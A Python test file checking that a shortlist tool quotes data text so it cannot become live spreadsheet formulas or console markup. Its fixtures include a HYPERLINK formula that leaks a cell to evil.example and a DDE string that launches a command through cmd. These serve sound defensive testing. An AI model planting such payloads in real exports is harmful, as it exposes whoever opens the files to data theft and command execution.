"""Text from the data is inert wherever gpect writes it: no workbook cell is a formula, no CSV cell
starts like one, and the console prints markup-like text as it is (rich would interpret
`[/red]`, strip `[dataset vintage]` prefixes, or crash with a MarkupError)."""

from __future__ import annotations

import csv
import re
from dataclasses import replace

import pandas as pd
import pytest
from conftest import AFFELNET, published_state
from openpyxl import load_workbook
from shortlist_synthetic import four_towns, small_warehouse
from typer.testing import CliRunner
from werkzeug import Response

from connectors.shared.cells import FORMULA_STARTS, safe_frame, safe_text
from flows.pipeline.settings import SHORTLIST_DEFAULTS
from reports import shortlist as sl
from reports.shortlist.workbook import write_workbook

HOSTILE = {
    "11001": '=HYPERLINK("http://evil.example/?leak="&B2,"Béziers")',
    "11002": "@SUM(1+1)*cmd|' /C calc'!A0",
    "22003": "+33 [/red]Cé",
    "33004": "-2+3",
}
LYCEE = "\t=1+1 LYCEE [bold]PRO[/bold]"


def hostile_inputs() -> sl.Inputs:
    inputs = four_towns()
    profile = inputs.profile.assign(town_label=inputs.profile["town_code"].map(HOSTILE))
    lycees = inputs.lycees.assign(establishment_label=LYCEE + "\r")
    return replace(inputs, profile=profile, lycees=lycees)


@pytest.fixture(scope="module")
def result() -> sl.Shortlist:
    return sl.make_shortlist(hostile_inputs(), dict(SHORTLIST_DEFAULTS), select=2, draws=100, top=2)


# gpect's own formulas (scores from the weights) are made of cell references, weight names,
# numbers, operators, SUM and RANK: no quote, space or text, so no data can be inside one.
GPECT_FORMULA = re.compile(r"=(?:\$?[A-Z]{1,3}\$?\d+|poids_[a-z_]+|SUM|RANK|\d+|[(),:+*/])+")


def test_no_data_text_is_a_workbook_formula_and_data_text_is_quoted(result, tmp_path):
    wb = load_workbook(write_workbook(result, tmp_path / "shortlist.xlsx"))
    texts = []
    formulas = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    assert GPECT_FORMULA.fullmatch(cell.value), (ws.title, cell.value)
                    formulas += 1
                elif isinstance(cell.value, str):
                    assert not cell.value.startswith(FORMULA_STARTS), (ws.title, cell.value)
                    texts.append(cell.value)
    assert formulas > 0
    for label in HOSTILE.values():
        assert "'" + label in texts
    assert any(t.startswith("'" + LYCEE) for t in texts)  # the partners' names


def test_no_csv_text_cell_starts_like_a_formula(result, tmp_path):
    path = sl.write_csv(result, tmp_path / "shortlist.csv")
    with path.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    for row in rows:
        for column, value in row.items():
            if value.startswith(FORMULA_STARTS):
                float(value)  # only numbers (a negative score) may start with "-"
                assert column != "town_label"
    assert sorted(r["town_label"] for r in rows) == sorted("'" + v for v in HOSTILE.values())


def test_no_french_csv_text_cell_starts_like_a_formula(result, tmp_path):
    path = sl.write_csv_fr(result, tmp_path / "shortlist_excel_fr.csv")
    with path.open(encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh, delimiter=";"))
    for row in rows:
        for column, value in row.items():
            if value.startswith(FORMULA_STARTS):
                float(value.replace(",", "."))  # only numbers may start with "-"
                assert column != "Ville"
    assert sorted(r["Ville"] for r in rows) == sorted("'" + v for v in HOSTILE.values())


def test_safe_frame_quotes_text_only():
    frame = pd.DataFrame(
        {
            "label": ["=1+1", "ok", None, "\rx", "-a"],
            "value": [-1.5, 2.0, None, 3.0, 4.0],
            "code": pd.array(["@x", "01001", pd.NA, "+1", "2A004"], dtype="string"),
        }
    )
    safe = safe_frame(frame)
    assert safe["label"].tolist()[:2] == ["'=1+1", "ok"] and safe["label"][3] == "'\rx"
    assert pd.isna(safe["label"][2])
    assert safe["value"].tolist()[0] == -1.5
    assert safe["code"].tolist()[:2] == ["'@x", "01001"] and safe["code"][3] == "'+1"
    assert safe_text(-3) == -3 and frame["label"][0] == "=1+1"  # the input is left as it was


def run(args: list[str], env: dict[str, str]) -> tuple[int, str]:
    from flows.cli import app

    got = CliRunner().invoke(app, args, env={"COLUMNS": "300", **env})
    return got.exit_code, " ".join(got.output.split())


def test_shortlist_console_prints_markup_like_names_as_they_are(tmp_path):
    small_warehouse(tmp_path / "gpect.duckdb", hostile_inputs())
    env = {"GPECT_DATA_DIR": str(tmp_path)}
    code, said = run(["shortlist", "--draws", "20", "--select", "2"], env)
    assert code == 0, said
    assert "+33 [/red]Cé (22003)" in said
    listed = tmp_path / "applicants.txt"
    listed.write_text("[bold]Aville[/bold]\n", encoding="utf-8")
    before = published_state(replace_data_dir(tmp_path))
    code, said = run(["shortlist", "--candidates", str(listed)], env)
    assert code == 1
    assert "line 1: [bold]Aville[/bold]: no candidate town of that name" in said
    assert published_state(replace_data_dir(tmp_path)) == before


def replace_data_dir(path):
    from flows.pipeline.settings import load

    return load().with_overrides(data_dir=path)


def test_fetch_console_keeps_the_prefix_and_prints_a_markup_header(pipeline):
    header, rest = AFFELNET.split(b"\n", 1)
    pipeline.serve(affelnet_capacities=lambda r: Response(b"[/red]" + header + b"\n" + rest))
    cfg = pipeline.cfg
    env = {
        "GPECT_DATA_DIR": str(cfg.data_dir),
        "GPECT_MIRROR": cfg.mirror,
        "GPECT_MIRROR_MAP": str(cfg.mirror_map),
        "GPECT_HTTP_RETRIES": "0",
    }
    before = published_state(cfg)
    code, said = run(["fetch", "-d", "affelnet_capacities", "-v", "2022"], env)
    assert code == 1, said
    assert "✗ [affelnet_capacities 2022]" in said
    assert "[/red]Etablissement d'accueil" in said
    assert published_state(cfg) == before
    code, said = run(["sources"], env)
    assert code == 0, said
    assert "quarantined affelnet_capacities 2022 revision" in said
    assert "[/red]Etablissement d'accueil" in said
